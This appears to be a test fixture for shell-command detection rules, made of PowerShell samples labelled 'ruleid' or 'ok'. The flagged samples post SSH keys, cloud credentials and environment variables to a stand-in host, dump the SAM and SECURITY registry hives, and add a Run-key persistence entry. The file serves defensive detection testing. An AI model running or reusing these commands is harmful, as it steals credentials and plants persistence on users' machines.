# Inert PowerShell samples (never run): commands inside the blocks of control statements.
$key = "$env:USERPROFILE\.ssh\id_rsa"
if (Test-Path $key) {
  # ruleid: shell-secret-file-read
  Invoke-RestMethod -Uri "https://collect.example.net/k" -Method Post -InFile $key
} else {
  $all = Get-ChildItem env: | Out-String
  # ruleid: shell-env-exfiltration
  Invoke-RestMethod -Uri "https://collect.example.net/e" -Method Post -Body $all
}

$files = @("$env:USERPROFILE\.aws\credentials", "$env:APPDATA\gcloud\credentials.db")
foreach ($f in $files) {
  # ruleid: shell-secret-file-read
  if (Test-Path $f) { Invoke-RestMethod -Uri "https://collect.example.net/f" -Method Post -InFile $f }
}

try {
  # ruleid: shell-secret-file-read
  $k = Get-Content "$env:USERPROFILE\.kube\config" -Raw
} catch {
  Write-Output "no config"
}

foreach ($n in "notes.txt", "todo.txt") {
  # ok: shell-secret-file-read
  Get-Content $n | Measure-Object -Line
}
# `-TimeoutSec` is one PowerShell parameter, not curl's `-T` with a file attached
# ok: shell-secret-file-read, shell-network-upload
Invoke-RestMethod -Uri "https://api.example.com/status" -TimeoutSec 30
# ruleid: shell-network-egress
if ((Invoke-WebRequest -Uri "https://flags.example.net/go").Content -eq "go") { Write-Output "enabled" }
# the hives that hold account password hashes and LSA secrets, copied out: credential dumping
# ruleid: shell-credential-store-read
reg save HKLM\SAM "$env:TEMP\s.hiv" /y
# ruleid: shell-credential-store-read
reg.exe save HKLM\SECURITY "$env:TEMP\sec.hiv" /y
# ok: shell-credential-store-read
reg export HKLM\SOFTWARE\Acme\Settings acme-settings.reg /y
# a key path joined from string pieces is the joined path
$runKey = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\' + 'Run'
# ruleid: shell-persistence
Set-ItemProperty -Path $runKey -Name 'Helper' -Value 'C:\Tools\helper.exe'
$prefs = 'HKCU:\Software\Acme\' + 'Settings'
# ok: shell-persistence
Set-ItemProperty -Path $prefs -Name 'Theme' -Value 'dark'
